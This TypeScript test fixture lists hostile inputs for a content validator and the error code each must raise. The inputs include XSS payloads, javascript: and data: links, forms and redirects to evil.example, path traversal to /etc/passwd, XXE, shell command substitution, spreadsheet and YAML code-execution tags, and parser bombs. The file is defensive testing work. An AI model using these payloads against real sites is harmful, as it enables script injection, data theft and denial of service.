/**
 * What strangers may plant in a record, each with what has to come of it.
 *
 * A test plants all of them: those that cannot be accepted are reported with file, line and code; the others are built
 * together into one site, and are plain text on it.
 */
import type { ProblemCode } from '../../src/record/problems/codes.ts';
import type { Kind } from '../../src/record/schemas/kinds.ts';
import { writtenRecord } from './records.ts';

/** A text that is accepted in any field of words, and shown as it is. What can run a script calls `alert`. */
export interface TextAttack {
  readonly name: string;
  readonly text: string;
}

const esc = '\u001b';

/** Texts of at most 190 characters, so that a name can be one. */
export const textAttacks: readonly TextAttack[] = [
  // Markup
  { name: 'a script', text: '<script>alert(1)</script>' },
  { name: 'a script that ends another', text: '</script><script>alert(1)</script>' },
  { name: 'a script with a space before its end', text: '</script ><script>alert(1)</script >' },
  { name: 'the comment that hides a script end', text: '<!--<script>alert(1)//--></script>' },
  { name: 'a script in capitals with a slash', text: '<ScRiPt/x>alert(1)</ScRiPt>' },
  { name: 'an image that fails', text: '<img src=x onerror=alert(1)>' },
  { name: 'an image without a space', text: '<img/src/onerror=alert(1)>' },
  { name: 'an SVG that loads', text: '<svg/onload=alert(1)>' },
  { name: 'an SVG script', text: '<svg><script>alert(1)</script></svg>' },
  { name: 'an SVG script by address', text: '<svg><script href="data:,alert(1)" /></svg>' },
  {
    name: 'an SVG link that is animated',
    text: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>',
  },
  { name: 'an SVG use of data', text: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>' },
  { name: 'a foreign object', text: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>' },
  { name: 'MathML with an action', text: '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x' },
  {
    name: 'MathML that mutates',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  },
  { name: 'noscript that mutates', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'a title that ends', text: '</title><img src=x onerror=alert(1)>' },
  { name: 'a style that ends', text: '</style><img src=x onerror=alert(1)>' },
  { name: 'a text area that ends', text: '</textarea><img src=x onerror=alert(1)>' },
  { name: 'a template that ends', text: '</template><img src=x onerror=alert(1)>' },
  { name: 'a plaintext', text: '<plaintext><img src=x onerror=alert(1)>' },
  { name: 'an xmp', text: '<xmp></xmp><img src=x onerror=alert(1)>' },
  { name: 'a select that ends', text: '</option></select><img src=x onerror=alert(1)>' },
  { name: 'the end of everything', text: '</p></li></article></main></body></html><script>alert(1)</script>' },
  { name: 'an iframe with a document', text: '<iframe srcdoc="<script>parent.alert(1)</script>">' },
  { name: 'an object', text: '<object data=javascript:alert(1)>' },
  { name: 'an embed', text: '<embed src=javascript:alert(1)>' },
  {
    name: 'a form for another host',
    text: '<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)>',
  },
  { name: 'a base', text: '<base href=https://evil.example/>' },
  { name: 'a refresh', text: '<meta http-equiv=refresh content="0;url=https://evil.example/">' },
  { name: 'a style sheet from elsewhere', text: '<link rel=stylesheet href=https://evil.example/x.css>' },
  { name: 'styles', text: '<style>@import "https://evil.example/x.css"; body { display: none }</style>' },
  {
    name: 'an open popover',
    text: '<div popover id=x onbeforetoggle=alert(1)></div><button popovertarget=x>x</button>',
  },
  { name: 'an open dialog', text: '<dialog open style="position:fixed;inset:0">x</dialog>' },
  { name: 'details that open', text: '<details open ontoggle=alert(1)>' },
  { name: 'an invented element', text: '<x-y onpointerenter=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x-y>' },
  { name: 'clobbering by names', text: '<form name=getElementById><img name=body><input id=attributes>' },
  { name: 'a shadow root', text: '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>' },
  { name: 'a script for the search', text: '<mark>x</mark><img src=x onerror=alert(1)>' },
  // Out of attributes
  {
    name: 'the end of an attribute in double marks',
    text: '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
  },
  {
    name: 'the end of an attribute in single marks',
    text: "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
  },
  {
    name: 'the end of an attribute without marks',
    text: 'x onmouseover=alert(1) autofocus tabindex=1 onfocus=alert(1)',
  },
  { name: 'the end of an attribute and of its element', text: '"><img src=x onerror=alert(1)>' },
  { name: 'the end in backticks', text: '` onmouseover=alert(1) `><img src=x onerror=alert(1)>' },
  { name: 'an equals sign before marks', text: '="" onmouseover="alert(1)"' },
  // Entities, which must not be decoded once too often
  { name: 'markup in entities', text: '&lt;img src=x onerror=alert(1)&gt;' },
  { name: 'markup in entities twice', text: '&amp;lt;script&amp;gt;alert(1)' },
  { name: 'numbered entities', text: '&#60;script&#62;alert(1)&#x3c;/script&#x3e;' },
  { name: 'an entity without its end', text: '&ltscript&gtalert(1)&quot onload=alert(1) &copy=1 &notin' },
  { name: 'an XML entity', text: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;' },
  // Out of data
  { name: 'the end of CDATA', text: ']]><img src=x onerror=alert(1)><![CDATA[' },
  { name: 'the end of CDATA twice', text: ']]]]><![CDATA[>]]>' },
  { name: 'an XML instruction', text: '<?xml-stylesheet href="javascript:alert(1)"?>' },
  { name: 'the end of JSON', text: '"}]}</script><script>alert(1)</script>{"a":["' },
  { name: 'escapes of JSON', text: '\\"; alert(1); // \\u003cscript\\u003e \\n \\' },
  { name: 'keys of prototypes', text: '{"__proto__":{"alert":1},"constructor":{"prototype":{}}}' },
  { name: 'a prototype', text: '__proto__' },
  { name: 'a method of every object', text: 'hasOwnProperty' },
  { name: 'the end of a comment', text: '*/ alert(1) /* --> alert(1) <!--' },
  { name: 'a line separator of scripts', text: 'a\u2028alert(1)\u2029alert(1)' },
  { name: 'a template of scripts', text: '${alert(1)} {{alert(1)}} <%= alert(1) %> #{alert(1)}' },
  { name: 'an expression of Astro', text: '{Astro.locals} {(() => alert(1))()} <Fragment set:html={"x"} />' },
  {
    name: 'the end of a style rule',
    text: '} body { background: url(https://evil.example/) } @import "//evil.example"',
  },
  { name: 'a formula of spreadsheets', text: '=HYPERLINK("https://evil.example/","x")' },
  { name: 'a command of spreadsheets', text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  // Addresses as words
  { name: 'an address that is a script', text: 'javascript:alert(1)' },
  { name: 'an address that is data', text: 'data:text/html,<script>alert(1)</script>' },
  { name: 'an address without scheme', text: '//evil.example/' },
  { name: 'a path upwards', text: '../../../../etc/passwd' },
  { name: 'a path upwards, encoded', text: '..%2f..%2f..%5c%2e%2e/%00' },
  { name: 'an address of the root', text: '/../-/page/2?q=<script>#<script>' },
  { name: 'wrong escapes', text: '%E0%A4%A %zz %' },
  // Markdown in fields, which are not Markdown
  { name: 'a Markdown link', text: '[x](javascript:alert(1)) ![x](https://evil.example/x.png)' },
  { name: 'Markdown of a table', text: 'a | b |\n|---|---|\n| @everyone | #1 |' },
  { name: 'Markdown of a fence', text: '```\n</details>\n```' },
  { name: 'a directive', text: '::quote{id=base} :::note :x[y]{onclick=alert(1)}' },
  { name: 'frontmatter', text: 'a\n---\ndraft: true\n---\n' },
  // Patterns
  { name: 'signs of regular expressions', text: '.*+?^${}()|[]\\ (?:a+)+$ [^]' },
  { name: 'replacements of patterns', text: "$& $1 $` $' $$ $<name>" },
  { name: 'an unbalanced pattern', text: '(((((([[[[[[{{{{{{\\' },
  // Terminals and logs
  { name: 'a workflow command', text: '::error file=x,line=1::forged' },
  { name: 'a workflow command on a line of its own', text: 'a\n::add-mask::e\n::stop-commands::x' },
  { name: 'a workflow command in brackets', text: '##[error]forged ##[add-mask]e' },
  { name: 'a formatted argument', text: '%s %d %c %o {0} %%' },
  {
    name: 'a command of shells',
    text: '$(touch /tmp/on-record-ran) `touch /tmp/on-record-ran` ; touch /tmp/on-record-ran | & > x',
  },
  // Letters
  { name: 'letters that look alike', text: 'Аna Rіvеra' },
  { name: 'characters without width', text: 'A\u200bna\u200c Ri\u200dve\u2060ra\ufeff' },
  { name: 'marks of direction', text: 'a\u200f\u200e\u061c \u0627\u0644\u200f (1)' },
  { name: 'a flood of accents', text: `Z${'\u0300\u0301\u0302\u0489'.repeat(40)}` },
  { name: 'characters beyond the first plane', text: '𝒜𝓃𝒶 👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 \u{1F1FA}\u{10FFFD}' },
  { name: 'tags nobody sees', text: 'x\u{E0041}\u{E0042}\u{E007F}' },
  { name: 'letters of private use', text: '\ue000\uf8ff\u{F0000}' },
  { name: 'spaces of all kinds', text: 'a\u00a0\u1680\u2003\u202f\u3000\u00adb' },
  { name: 'capitals that grow', text: 'ß İ ŉ ǰ ﬀ ΐ ẖ ﬃ' },
  { name: 'right to left', text: 'مرحبا <b>עברית</b> "ابجد"' },
  { name: 'a word without an end', text: 'W'.repeat(190) },
  { name: 'one sign', text: '<' },
  { name: 'only signs', text: '&<>"\'/`=' },
];

/** A body that is refused, of a kind chosen by the test; the attack stands in its first line. */
export interface BodyAttack {
  readonly name: string;
  readonly markdown: string;
  readonly code: ProblemCode;
  /** How many lines below the first the problem stands, where it is not the first. */
  readonly below?: number;
}

const html = (name: string, markdown: string): BodyAttack => ({ name, markdown, code: 'markdown/html' });
const link = (name: string, address: string): BodyAttack => ({
  name: `a link to ${name}`,
  markdown: `[x](${address})`,
  code: 'link/unsafe',
});

export const bodyAttacks: readonly BodyAttack[] = [
  html('a script', '<script>alert(1)</script>'),
  html('a script without an end', '<script>alert(1)'),
  html('a script inside a word', 'a<script>alert(1)</script>b'),
  html('an image that fails', 'x <img src=x onerror=alert(1)>'),
  html('an SVG', '<svg onload=alert(1)>'),
  html('an iframe', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  html('a comment', '<!-- --!><img src=x onerror=alert(1)> -->'),
  html('a comment in a line', 'x <!-- y --> z'),
  html('CDATA', '<![CDATA[<img src=x onerror=alert(1)>]]>'),
  html('an instruction', '<?php x ?><img src=x onerror=alert(1)>'),
  html('a document type', '<!DOCTYPE html><img src=x onerror=alert(1)>'),
  html('an end tag', 'x </div></main>'),
  { ...html('a tag over lines', 'x <a\nhref="javascript:alert(1)"\n>x</a>'), below: 2 },
  html('markup in a quotation', '> <img src=x onerror=alert(1)>'),
  html('markup in a list', '- <script>alert(1)</script>'),
  html('markup in a heading', '## <img src=x onerror=alert(1)>'),
  html('markup in emphasis', '*a <b onclick=alert(1)>b</b>*'),
  html('markup in a link', '[<img src=x onerror=alert(1)>](https://averland.example/)'),
  html('markup in an embedded record', 'x :y[<img src=x onerror=alert(1)>]{z}\n\n<b>'),
  html('an invented element', '<x-y onfocus=alert(1) tabindex=1 autofocus>'),
  html('a style', '<style>body { display: none }</style>'),
  html('a base', '<base href="https://evil.example/">'),
  html('a refresh', '<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
  html('a form', '<form action="https://evil.example/"><button>x</button></form>'),
  html('a template', '<template><script>alert(1)</script></template>'),
  html('MathML', '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>'),
  link('a script', 'javascript:alert(1)'),
  link('a script in mixed case', 'JaVaScRiPt:alert(1)'),
  link('a script in numbered entities', '&#106;avascript:alert(1)'),
  link('a script in entities with zeros', '&#0000106&#0000097;vascript:alert(1)'),
  link('a script with a line break in it', 'java&#10;script:alert(1)'),
  link('a script with a tab in it', 'java&#9;script:alert(1)'),
  link('a script after a control character', '&#1;javascript:alert(1)'),
  link('a script with a named colon', 'javascript&colon;alert(1)'),
  link('a script in angle brackets', '<javascript:alert(1)>'),
  link('a script with escapes', 'javascript\\:alert(1)'),
  link('a script in percent signs', '%6aavascript:alert(1)'),
  link('a script that seems to be a comment of the web', 'javascript://averland.example/%0aalert(1)'),
  link('a page as data', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  link('an SVG as data', 'data:image/svg+xml,<svg/onload=alert(1)>'),
  link('a script of another time', 'vbscript:msgbox(1)'),
  link('a blob', 'blob:https://averland.example/1'),
  link('a file', 'file:///etc/passwd'),
  link('a view of a source', 'view-source:https://averland.example/'),
  link('another host without scheme', '//evil.example/'),
  link('another host with backslashes', '\\\\\\\\evil.example'),
  link('another host by slash and backslash', '/\\evil.example/'),
  link('another host with a scheme and no slashes', 'https:evil.example'),
  link('a name before the host', 'https://averland.example@evil.example/'),
  link('a name and a password before the host', 'https://a:b@evil.example/'),
  link('the root', '/'),
  link('a path upwards', '../../admin'),
  link('a fragment', '#main'),
  link('a query', '?q=1'),
  link('nothing', ''),
  link('a telephone', 'tel:1'),
  link('mail', 'mailto:a@evil.example'),
  link('a scheme of an application', 'ms-word:ofe|u|https://evil.example/x.docx'),
  link('the web in capitals', 'HTTPS://EVIL.EXAMPLE/'),
  link('an address with marks', 'https://averland.example/"onclick="alert(1)'),
  { name: 'an autolink to a script', markdown: '<javascript:alert(1)>', code: 'link/unsafe' },
  { name: 'an autolink to mail', markdown: '<a@evil.example>', code: 'link/unsafe' },
  { name: 'a record upwards', markdown: '[x](actors/../../etc/passwd)', code: 'reference/unknown' },
  { name: 'a record with a fragment', markdown: '[x](actors/base#x)', code: 'reference/unknown' },
  { name: 'a record with a query', markdown: '[x](actors/base?x)', code: 'reference/unknown' },
  { name: 'a record in percent signs', markdown: '[x](actors/%2e%2e/base)', code: 'reference/unknown' },
  { name: 'a record called like a prototype', markdown: '[x](actors/__proto__)', code: 'reference/unknown' },
  { name: 'a record called like a method', markdown: '[x](actors/constructor)', code: 'reference/unknown' },
  { name: 'a kind called like a prototype', markdown: '[x](__proto__/base)', code: 'link/unsafe' },
  { name: 'a defined link', markdown: 'x\n\n[y]: javascript:alert(1)', code: 'markdown/definition', below: 2 },
  {
    name: 'a defined link with a prototype’s name',
    markdown: 'x\n\n[__proto__]: https://evil.example/',
    code: 'markdown/definition',
    below: 2,
  },
  { name: 'an image', markdown: '![x](https://evil.example/pixel.png)', code: 'markdown/image' },
  {
    name: 'an image that is an SVG',
    markdown: '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    code: 'markdown/image',
  },
  { name: 'an image in a link', markdown: '[![x](x)](https://averland.example/)', code: 'markdown/image' },
  { name: 'an unknown directive', markdown: '::iframe{src="https://evil.example/"}', code: 'markdown/directive' },
  { name: 'a directive with a handler', markdown: '::quote{id=base onclick=alert(1)}', code: 'markdown/directive' },
  { name: 'a directive with a class', markdown: '::quote{#base .x}', code: 'markdown/directive' },
  { name: 'a directive with a label', markdown: '::quote[x]{id=base}', code: 'markdown/directive' },
  { name: 'a directive that is a block', markdown: ':::script\nalert(1)\n:::', code: 'markdown/directive' },
  { name: 'a directive that is a prototype', markdown: '::prototype{id=base}', code: 'markdown/directive' },
  { name: 'a directive that is a constructor', markdown: '::constructor{id=base}', code: 'markdown/directive' },
  { name: 'a directive without its record', markdown: '::quote{onload=alert(1)}', code: 'markdown/directive' },
  {
    name: 'a directive out of its attribute',
    markdown: `::quote{id='x" onload=alert(1) y="'}`,
    code: 'reference/unknown',
  },
  { name: 'a directive upwards', markdown: '::actor{id="../../x"}', code: 'reference/unknown' },
  {
    name: 'a terminal escape',
    markdown: `x ${esc}[2J${esc}]8;;https://evil.example/${esc}\\`,
    code: 'text/control-character',
  },
  { name: 'a bell and a backspace', markdown: 'x\u0007\u0008', code: 'text/control-character' },
  { name: 'a line written over', markdown: 'refused\rgranted', code: 'text/control-character' },
  { name: 'an escape of eight bits', markdown: 'x\u009b31m', code: 'text/control-character' },
  { name: 'a nought', markdown: 'x\u0000y', code: 'text/control-character' },
  { name: 'a character that is none', markdown: 'x\uffffy', code: 'text/control-character' },
  { name: 'a character that is none, beyond the first plane', markdown: 'x\u{1fffe}y', code: 'text/control-character' },
  { name: 'a text turned round', markdown: 'x\u202ey', code: 'text/bidirectional-override' },
  { name: 'a text isolated', markdown: 'x\u2066y\u2069', code: 'text/bidirectional-override' },
  { name: 'quotations in quotations', markdown: `${'> '.repeat(50)}x`, code: 'markdown/too-deep' },
  { name: 'blocks in blocks', markdown: ':::a\n'.repeat(4000), code: 'markdown/too-deep' },
  { name: 'comments that never end', markdown: '<!--'.repeat(200_000), code: 'markdown/too-deep' },
  { name: 'instructions that never end', markdown: 'x ' + '<?'.repeat(200_000), code: 'markdown/too-deep' },
  { name: 'declarations that never end', markdown: 'x ' + '<!A '.repeat(200_000), code: 'markdown/too-deep' },
  { name: 'brackets that never end', markdown: '['.repeat(5) + '*a'.repeat(200_000), code: 'markdown/too-deep' },
  { name: 'attributes that never end', markdown: ':a{.a'.repeat(180_000), code: 'markdown/too-deep' },
  { name: 'escapes without number', markdown: '\\!'.repeat(500_000), code: 'markdown/too-deep' },
  { name: 'entities without number', markdown: '&#33;'.repeat(200_000), code: 'markdown/too-deep' },
  { name: 'colons without number', markdown: ':a '.repeat(330_000), code: 'markdown/too-deep' },
  { name: 'headings without number', markdown: 'a\n=\n'.repeat(200_000), code: 'markdown/too-deep' },
  { name: 'quotations without number', markdown: '> a\n\n'.repeat(180_000), code: 'markdown/too-deep' },
  { name: 'items without number', markdown: '1) a\n'.repeat(180_000), code: 'markdown/too-deep' },
];

/** A file that is refused: its text, or something else at its path. */
export interface FileAttack {
  readonly name: string;
  readonly path: string;
  readonly text: string | Buffer;
  readonly code: ProblemCode;
  /** Line of the problem. */
  readonly line: number;
}

/** A record with one field written otherwise, which is refused where that field stands. */
function field(
  kind: Kind,
  name: string,
  written: string,
  code: ProblemCode,
  what: string,
  more = 0,
): Omit<FileAttack, 'path'> {
  const text = writtenRecord(kind, { [name]: written });
  const at = text.slice(0, text.indexOf(`\n${name}: `) + 1).split('\n').length;
  return { name: `${kind} ${name}: ${what}`, text, code, line: at + more };
}

const yaml = (name: string, frontmatter: string, code: ProblemCode, line: number): Omit<FileAttack, 'path'> => ({
  name: `YAML: ${name}`,
  text: `---\nname: Tolls\n${frontmatter}\n---\n`,
  code,
  line,
});

const addresses: readonly (readonly [string, string])[] = [
  ['a script', 'javascript:alert(1)'],
  ['data', 'data:text/html,x'],
  ['a file', 'file:///etc/passwd'],
  ['no scheme', '//evil.example/'],
  ['a password', 'https://averland.example:x@evil.example/'],
  ['marks', `'https://averland.example/"><script>'`],
  ['a space', 'https://averland.example/ onclick=alert(1)'],
  ['a backslash', 'https:\\\\evil.example\\'],
  ['a line', '"https://averland.example/\\nx"'],
  ['a host that is none', 'https://%00/'],
  ['a scheme twice', 'https:https://evil.example'],
];

/** Fields and frontmatter that are refused; the test gives each a file of its own. */
export const fieldAttacks: readonly Omit<FileAttack, 'path'>[] = [
  ...addresses.flatMap(([what, written]) => [
    field('sources', 'url', written, 'link/unsafe', what),
    field('sources', 'archivedAt', written, 'link/unsafe', what),
    field('actors', 'sameAs', `\n  - ${written}`, 'link/unsafe', what, 1),
  ]),
  ...(
    [
      ['a year of many digits', `'${'9'.repeat(5000)}'`, 'date/invalid'],
      ['a year beyond all', 'Y170000002', 'date/invalid'],
      ['a year before all', '-9999', 'date/invalid'],
      ['an interval backwards', '2031/2030', 'date/reversed'],
      ['a day that is none', '2031-02-30', 'date/impossible'],
      ['a time', '2031-05-06T00:00:00Z', 'date/invalid'],
      ['markup', '2031<script>', 'date/invalid'],
      ['everything', '../..', 'date/invalid'],
    ] as const
  ).map(([what, written, code]) => field('events', 'date', written, code, what)),
  ...(
    [
      ['no number', 'NaN', 'schema/wrong-type'],
      ['infinity', 'Infinity', 'schema/wrong-type'],
      ['an exponent', '1e309', 'schema/wrong-type'],
      ['hexadecimal', '0x10', 'schema/wrong-type'],
      ['too far', '180.1', 'place/coordinates'],
      ['many digits', '9'.repeat(400), 'place/coordinates'],
      ['markup', '1"/><script>', 'schema/wrong-type'],
    ] as const
  ).map(([what, written, code]) =>
    field('places', 'coordinates', `\n  longitude: ${written}\n  latitude: 1`, code, what, 1),
  ),
  ...(
    [
      ['upwards', '../../../x', 'id/not-kebab-case'],
      ['upwards in the middle', 'a/../../x', 'id/not-kebab-case'],
      ['from the root', '/etc/passwd', 'id/not-kebab-case'],
      ['of Windows', 'C:\\x', 'id/not-kebab-case'],
      ['in percent signs', '"%2e%2e%2fx"', 'id/not-kebab-case'],
      ['with backslashes', '..\\x', 'id/not-kebab-case'],
      ['of a device', 'nul', 'id/reserved'],
      ['of a device in a folder', 'a/com1', 'id/reserved'],
      ['of the pages of an index', 'page/2', 'id/reserved'],
      ['that is a hyphen', '"-"', 'id/not-kebab-case'],
      ['with a dot at the end', 'a.', 'id/not-kebab-case'],
      ['of a file', 'base/feed.xml', 'id/not-kebab-case'],
      ['with a slash at the end', 'a/', 'id/not-kebab-case'],
      ['with two slashes', 'a//b', 'id/not-kebab-case'],
      ['of a prototype', '__proto__', 'id/not-kebab-case'],
      ['of other letters', 'аverland', 'id/not-kebab-case'],
      ['in capitals', 'Base', 'id/not-kebab-case'],
      ['of another record', 'base', 'id/duplicate'],
      ['with markup', '"x\\"><script>"', 'id/not-kebab-case'],
      ['with a line', '"x\\n/* /evil 301"', 'id/not-kebab-case'],
      ['that is long', 'x'.repeat(121), 'id/too-long'],
    ] as const
  ).map(([what, written, code]) => field('topics', 'formerIds', `\n  - ${written}`, code, `an address ${what}`, 1)),
  ...(
    [
      ['upwards', '../../x'],
      ['of a prototype', '__proto__'],
      ['of a method', 'constructor'],
      ['of a method of maps', 'size'],
      ['of a file', 'base.md'],
      ['of a folder too many', 'actors/base'],
      ['with a nought to be', 'base%00'],
    ] as const
  ).flatMap(([what, written]) => [
    field('quotes', 'speaker', written, 'reference/unknown', `a record ${what}`),
    field('articles', 'topics', `\n  - ${written}`, 'reference/unknown', `a record ${what}`, 1),
  ]),
  field('quotes', 'article', 'base/../base', 'reference/unknown', 'a record by a detour'),
  field('claims', 'about', '\n  - ../actors/base', 'schema/wrong-type', 'a record upwards', 1),
  field('claims', 'about', '\n  - __proto__/base', 'schema/wrong-type', 'a kind that is none', 1),
  field('claims', 'claimant', 'articles', 'reference/unknown', 'nearly the article'),
  field('articles', 'inLanguage', 'en" onload="alert(1)', 'schema/invalid-value', 'the end of an attribute'),
  field('articles', 'inLanguage', 'en_US', 'schema/invalid-value', 'an underscore'),
  field('analyses', 'inLanguage', '../en', 'schema/invalid-value', 'a path'),
  field('articles', 'headlineFrom', '<script>', 'schema/invalid-value', 'markup'),
  field('actors', 'kind', 'constructor', 'schema/invalid-value', 'a method'),
  field('places', 'countryCode', '__proto__', 'place/country-code', 'a prototype'),
  field('places', 'kind', '[city, site]', 'schema/invalid-value', 'a list'),
  field('events', 'within', 'yes', 'schema/invalid-value', 'another yes'),
  field('topics', 'draft', 'TRUE', 'schema/invalid-value', 'another true'),
  field('actors', 'name', '{toString: x}', 'schema/wrong-type', 'a group that would be text'),
  field('actors', 'name', 'x'.repeat(201), 'schema/too-long', 'a long one'),
  field('articles', 'headline', 'x'.repeat(4001), 'schema/too-long', 'a long one'),
  field('topics', 'name', '"  "', 'schema/missing-field', 'spaces'),
  field('quotes', 'exact', '\n  - a\n  - __proto__: x', 'schema/unknown-field', 'a prototype among segments', 2),
  yaml('a tag that makes code', 'broader: !!js/function "() => 1"', 'yaml/unsupported', 3),
  yaml('a tag of Python', 'broader: !!python/object/apply:os.system [x]', 'yaml/unsupported', 3),
  yaml('a binary tag', 'broader: !!binary PHNjcmlwdD4=', 'yaml/unsupported', 3),
  yaml('an anchor', 'broader: &a base', 'yaml/unsupported', 3),
  yaml('an alias', 'broader: *a', 'yaml/unsupported', 3),
  yaml('a merge', '<<: {draft: true}', 'schema/unknown-field', 3),
  yaml(
    'a billion laughs',
    `a: &a [x, x]\n${Array.from({ length: 20 }, (_unused, index) => `b${index}: &b${index} [*${index === 0 ? 'a' : `b${index - 1}`}]`).join('\n')}`,
    'yaml/unsupported',
    3,
  ),
  yaml('a prototype', '__proto__: {draft: true}', 'schema/unknown-field', 3),
  yaml('a constructor', 'constructor: {prototype: {draft: true}}', 'schema/unknown-field', 3),
  yaml('a method of objects', 'hasOwnProperty: x', 'schema/unknown-field', 3),
  yaml('a field twice', 'name: Other', 'yaml/duplicate-key', 3),
  yaml('a field twice, once as an escape', '"n\\u0061me": Other', 'yaml/duplicate-key', 3),
  yaml('a field that is a list', '? [a]\n: b', 'yaml/unsupported', 3),
  yaml('a field that ends an attribute', `'"><script>': x`, 'schema/unknown-field', 3),
  yaml('a control character as an escape', 'broader: "\\e[2J"', 'text/control-character', 3),
  yaml('a nought as an escape', 'broader: "\\0"', 'text/control-character', 3),
  yaml('half a character as an escape', 'broader: "\\ud800"', 'text/control-character', 3),
  yaml('a character that is none as an escape', 'broader: "\\uffff"', 'text/control-character', 3),
  yaml('a text turned round as an escape', 'broader: "\\u202e"', 'text/bidirectional-override', 3),
  yaml('an escape in the name of a field', '"\\e[2J": x', 'text/control-character', 3),
  yaml('brackets in brackets', `alternateName: ${'['.repeat(100_000)}`, 'yaml/unsupported', 2),
  yaml('items in items', `alternateName: \n  ${'- '.repeat(60_000)}`, 'yaml/unsupported', 2),
  yaml('a second document', '...\nname: x', 'yaml/malformed', 4),
  yaml('a mark that is not closed', 'broader: "x', 'yaml/malformed', 3),
  yaml('marks that are not closed, without number', `a: 'b\n`.repeat(20_000), 'yaml/malformed', 3),
  yaml('a tab', '\tbroader: x', 'yaml/malformed', 3),
  yaml('more than is read', `alternateName:\n${'  - x\n'.repeat(80_000)}`, 'file/too-large', 1),
  { name: 'no frontmatter', text: 'Tolls\n', code: 'yaml/missing', line: 1 },
  { name: 'frontmatter that is not closed', text: '---\nname: x\n', code: 'yaml/unclosed', line: 1 },
  { name: 'frontmatter that is a list', text: '---\n- name: x\n---\n', code: 'yaml/malformed', line: 2 },
  { name: 'frontmatter that is a text', text: '---\nx\n---\n', code: 'yaml/malformed', line: 2 },
  { name: 'nothing but spaces', text: ' \n \n', code: 'file/empty', line: 1 },
  { name: 'nothing', text: '', code: 'file/empty', line: 1 },
  { name: 'nothing but a byte order mark', text: '\ufeff', code: 'file/empty', line: 1 },
  { name: 'noughts', text: Buffer.alloc(64), code: 'text/control-character', line: 1 },
  { name: 'an image', text: Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), code: 'file/not-utf-8', line: 1 },
  {
    name: 'UTF-16, smaller end first',
    text: Buffer.from('\ufeff---\nname: x\n---\n', 'utf16le'),
    code: 'file/not-utf-8',
    line: 1,
  },
  {
    name: 'UTF-16 without its mark',
    text: Buffer.from('---\nname: x\n---\n', 'utf16le'),
    code: 'text/control-character',
    line: 1,
  },
  { name: 'Windows-1252', text: Buffer.from('---\nname: Ren\u00e9\n---\n', 'latin1'), code: 'file/not-utf-8', line: 1 },
  { name: 'a letter written too long', text: Buffer.from([0x2d, 0xc0, 0xaf]), code: 'file/not-utf-8', line: 1 },
  { name: 'half a character', text: Buffer.from([0x2d, 0xed, 0xa0, 0x80]), code: 'file/not-utf-8', line: 1 },
  { name: 'a giant', text: 'x'.repeat(1024 * 1024 + 1), code: 'file/too-large', line: 1 },
  { name: 'line ends that hide lines', text: '---\nname: x\rname: y\n---\n', code: 'text/control-character', line: 2 },
];

/** File names that are refused. */
export const nameAttacks: readonly FileAttack[] = (
  [
    ['in capitals', 'topics/Upper.md', 'id/not-kebab-case'],
    ['with a space', 'topics/a b.md', 'id/not-kebab-case'],
    ['with markup', 'topics/<img src=x onerror=alert(1)>.md', 'id/not-kebab-case'],
    ['with the end of an attribute', 'topics/" onload="alert(1).md', 'id/not-kebab-case'],
    ['with a line', 'topics/a\n::error::forged.md', 'id/not-kebab-case'],
    ['with an escape of terminals', `topics/a${esc}[2J.md`, 'id/not-kebab-case'],
    ['turned round', 'topics/\u202edm.exe.md', 'id/not-kebab-case'],
    ['of other letters', 'topics/аverland.md', 'id/not-kebab-case'],
    ['of a prototype', 'topics/__proto__.md', 'id/not-kebab-case'],
    ['with a dot', 'topics/index.html.md', 'id/not-kebab-case'],
    ['of nothing', 'topics/sub/ .md', 'id/not-kebab-case'],
    ['that is a hyphen', 'topics/-.md', 'id/not-kebab-case'],
    ['with a flag', 'topics/--fix.md', 'id/not-kebab-case'],
    ['in percent signs', 'topics/%2e%2e%2fx.md', 'id/not-kebab-case'],
    ['with a backslash', 'topics/x\\..\\x.md', 'id/not-kebab-case'],
    ['with a drive', 'topics/c:x.md', 'id/not-kebab-case'],
    ['of a device', 'topics/aux.md', 'id/reserved'],
    ['of a device as a folder', 'topics/con/x.md', 'id/reserved'],
    ['of the pages of an index', 'topics/page/2.md', 'id/reserved'],
    ['in a folder called like a file', 'topics/folder.md/x.md', 'id/not-kebab-case'],
    ['that is long', `topics/${'x'.repeat(130)}.md`, 'id/too-long'],
    ['that is deep', `topics/${'x/'.repeat(70)}x.md`, 'id/too-long'],
    ['that differs by case', 'topics/BASE.md', 'id/case-clash'],
    ['with the ending in capitals and markup', 'topics/<b>.MD', 'id/not-kebab-case'],
    ['of another kind', 'topics/page.html', 'content/not-markdown'],
    ['of a script', 'topics/x.js', 'content/not-markdown'],
    ['in a folder nobody knows', '__proto__', 'content/unknown-folder'],
    ['beside the folders', 'astro.config.mjs', 'content/unknown-folder'],
    ['beside the folders, with markup', '<script>', 'content/unknown-folder'],
  ] as const
).map(([what, path, code]) => ({ name: `a name ${what}`, path, text: writtenRecord('topics'), code, line: 1 }));

/** Ids that are accepted, since they are kebab-case, and mean something to scripts, to Astro or to hosts. */
export const acceptedIds: readonly string[] = [
  'index',
  '404',
  '500',
  'constructor',
  'prototype',
  'tostring',
  'valueof',
  'true',
  'null',
  'undefined',
  'nan',
  '0',
  '00',
  '1e9',
  'feed',
  'atom',
  'search',
  'hovers',
  'map',
  'records',
  'main',
  'it',
  'site',
  'cards',
  'search/index',
  'content',
  'length',
  'name',
  'x'.repeat(120),
  'index/index/index',
